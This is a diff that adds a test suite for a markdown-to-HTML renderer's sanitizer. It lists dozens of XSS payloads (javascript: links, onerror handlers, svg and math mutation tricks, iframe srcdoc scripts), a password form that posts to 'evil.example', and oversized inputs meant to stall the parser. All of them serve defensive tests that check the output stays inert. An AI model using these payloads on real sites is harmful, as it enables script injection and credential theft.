@@ -1,0 +1,221 @@
+"""Whatever a stranger writes, nothing active reaches a reader, and nothing but TooComplicated is raised."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from potluck.markup import Renderer, TooComplicated, allowed
+
+Html = Callable[[str], str]
+
+PIECES = """<script> </script> <style> </style> <svg> <math> <mtext> <mglyph> <annotation-xml> <title> <textarea> <noscript>
+<template> <select> <table> <td> <p> </p> <b> <a> <iframe> <form> <input> <img> <object> <embed> <base> <meta> <link> <plaintext>
+<!-- --> <![CDATA[ ]]> <? ?> <!DOCTYPE onerror=alert(1) onclick='x' style="x" srcdoc="<b>" javascript:alert(1) data:text/html,x
+vbscript:x java&#10;script: &colon; &Tab; href= src= "> '> /> = [ ]( ) ![ ]: [^ * _ ** ~~ ` ``` ~~~ $ $$ | > - 1. # \\ & :tada:
+@me #1 {: } https://a.example www.b.example // me@a.example *[x]: | | --- \x00 \x02 \x03 \u202e é""".split()
+PIECES += [
+    "\n",
+    "\n\n",
+    " ",
+    "    ",
+    "<a href='javascript:x'>",
+    '<img src=x onerror="x">',
+    "[x](javascript:x)",
+    "<iframe src=//trinket.io/x>",
+]
+soup = st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=30).map("".join)
+patient = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+
+
+class Inspector(HTMLParser):
+    """Collects what should never be there."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.bad: list[str] = []
+        self.open: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in allowed.TAGS:
+            self.bad.append(tag)
+        for name, value in attrs:
+            inert = re.sub(r"[\x00-\x20]", "", value or "").lower()
+            if name.startswith("on") or name in ("style", "name", "formaction", "action"):
+                self.bad.append(f"{tag} {name}")
+            if name in ("href", "src", "data-embed") and re.match(r"(javascript|vbscript|data|file|blob):", inert):
+                self.bad.append(f"{tag} {name}={value}")
+            if name == "id" and not re.match(r"post-|fn-|fnref-", value or ""):
+                self.bad.append(f"id {value}")
+            if name == "srcdoc" and not re.fullmatch(
+                r"<!doctype html><title>[^<]*</title><style>[^<]*</style><a href=\"https://[^\"]*\">[^<]*</a>",
+                value or "",
+            ):
+                self.bad.append(f"srcdoc {value}")
+
+
+def bad_things_in(html: str) -> list[str]:
+    inspector = Inspector()
+    inspector.feed(html)
+    inspector.close()
+    return inspector.bad
+
+
+@given(soup)
+@patient
+def test_nothing_active_survives_and_nothing_breaks(renderer: Renderer, text: str) -> None:
+    try:
+        rendered = renderer.render(text)
+    except TooComplicated:
+        return
+    assert bad_things_in(rendered.html) == []
+    assert len(rendered.summary) <= 200
+    assert "<" not in rendered.summary or "<" in text or "&" in text
+
+
+@given(st.text(max_size=300))
+@patient
+def test_any_text_at_all_can_be_rendered(renderer: Renderer, text: str) -> None:
+    assert bad_things_in(renderer.render(text).html) == []
+
+
+@given(soup)
+@patient
+def test_the_same_text_gives_the_same_page(renderer: Renderer, text: str) -> None:
+    try:
+        first = renderer.render(text)
+    except TooComplicated:
+        return
+    assert Renderer().render(text) == first
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "[x](javascript:alert(1))",
+        "[x](java&#10;script:alert(1))",
+        "[x](&#x6a;avascript:alert(1))",
+        "[x](JaVaScRiPt&colon;alert(1))",
+        "[x]\n\n[x]: javascript:alert(1)",
+        "<javascript:alert(1)>",
+        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+        '![a" onerror="alert(1)](x.png)',
+        '[x](y "t\\" onmouseover=alert(1)")',
+        '<a href="x" onclick="alert(1)" style="position:fixed">x</a>',
+        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+        '<iframe src="https://trinket.io/x" allow="camera" onload=alert(1) srcdoc="<script>alert(1)</script>"></iframe>',
+        "<form action=https://evil.example><input name=password><button>go</button></form>",
+        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+        "``` {.python onclick=alert(1)}\nx\n```",
+        '```"><script>alert(1)</script>\nx\n```',
+        "$\\text{<script>alert(1)</script>}$",
+        '*[x]: " onmouseover="alert(1)\n\nx',
+        '[^a"onclick=x]\n\n[^a"onclick=x]: y',
+        "</article></main></body><h1>mine",
+        "<plaintext>",
+        "<textarea>",
+        "<title></title><base href=//evil.example><meta http-equiv=refresh content=0>",
+        "\x02wzxhzdk:0\x03 <b onclick=x>",
+    ],
+)
+def test_known_attacks_come_out_harmless(attack: str, html_of: Html) -> None:
+    html = html_of(attack)
+    assert bad_things_in(html) == []
+    assert not re.search(r"<(script|style|form|button|svg|base|meta|plaintext|textarea|title|/main|/body)", html)
+
+
+def test_ids_cannot_shadow_those_of_the_page(html_of: Html) -> None:
+    html = html_of('# Search\n\n<a id="main" name="currentScript">x</a> <b id="main">y</b>\n')
+    assert 'id="post-search"' in html
+    assert html.count('id="post-main"') == 1, "the second of two equal ids goes"
+    assert "name=" not in html
+
+
+def test_links_within_a_text_follow_its_ids(renderer: Renderer) -> None:
+    html = renderer.render("# Soup\n\n[up](#soup) and[^1]\n\n[^1]: note", id_prefix="bio-").html
+    assert '<h1 id="post-bio-soup">' in html
+    assert 'href="#post-bio-soup"' in html
+    assert 'href="#bio-fn-1"' in html
+    assert 'id="bio-fn-1"' in html
+
+
+def test_links_to_other_sites_are_marked_and_our_own_are_not() -> None:
+    html = (
+        Renderer(own_site="https://potluck.example")
+        .render("[a](https://other.example) [b](/about/) [c](https://potluck.example/x) [d](mailto:me@a.example)")
+        .html
+    )
+    assert html.count("rel=") == 1
+    assert '<a href="https://other.example" rel="nofollow ugc noopener">' in html
+
+
+def test_only_classes_that_we_give_ourselves_survive(html_of: Html) -> None:
+    assert html_of('<div class="site-header align-right">x</div>') == '<div class="align-right">x</div>'
+
+
+def test_fields_of_forms_are_gone_but_task_boxes_stay(html_of: Html) -> None:
+    assert "<input" not in html_of("<input type=text name=q> <input type=checkbox>")
+    assert html_of("- [x] wash").count("<input") == 1
+
+
+def test_a_refused_link_keeps_its_words_and_a_refused_image_its_description() -> None:
+    html = Renderer().render("[words](x.md) ![what it shows](y.png)", resolve=lambda tag, name, url: None).html
+    assert html == "<p><a>words</a> what it shows</p>"
+
+
+def test_what_resolve_gives_is_checked_as_well() -> None:
+    html = Renderer().render("[x](a) ![y](b)", resolve=lambda tag, name, url: "javascript:alert(1)").html
+    assert "javascript" not in html
+
+
+N = 20_000
+HOSTILE = {
+    "brackets": "[" * N,
+    "images": "![" * N,
+    "links": "[a](" * N,
+    "links with titles": "[a](b '" * N,
+    "CDATA": "<![CDATA[" * N,
+    "tags": "<a " * N,
+    "attributes": "<a b='" * N,
+    "comments": "<!-- " * N,
+    "backticks": "".join("`" * n + " " for n in range(1, 300)),
+    "stars": "*a " * N,
+    "stars and underscores": "*a _b " * N,
+    "tildes": "~~a *b " * N,
+    "addresses": "www.a_" * N,
+    "mails": "a." * N + "@",
+    "dollars": "$a " * N,
+    "entities": "&" * N,
+    "quotations": "> " * N,
+    "lists": "- " * N,
+    "nested lists": "".join("  " * n + "- a\n" for n in range(500)),
+    "fences": "```\n" * N,
+    "definitions": "[^a]: b\n\n" * N,
+    "one definition used often": "[a]: " + "x" * 50_000 + "\n\n" + "[a]" * N,
+    "footnotes": "[^1]" * N + "\n\n[^1]: x",
+    "abbreviations": "".join(f"*[a{n}]: b\n" for n in range(6_000)) + "a1 " * N,
+    "a wide table": "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 5_400,
+    "open tags": "<b>" * N,
+    "open tags and paragraphs": "".join(f"<b id=a{n}>" for n in range(200)) + "<p>x" * N,
+    "deep emphasis": "*a **b " * 500 + "c** d*" * 500,
+    "code": "```python\n" + "(" * N + "\n```",
+    "formulas": "$x$ " * N,
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_size_ends_soon(name: str, renderer: Renderer) -> None:
+    """Within seconds, either as a page of moderate size or refused with words for the author."""
+    try:
+        html = renderer.render(HOSTILE[name]).html
+    except TooComplicated as refusal:
+        assert str(refusal).endswith(".")
+    else:
+        assert len(html) < 100 * len(HOSTILE[name]) + 10_000
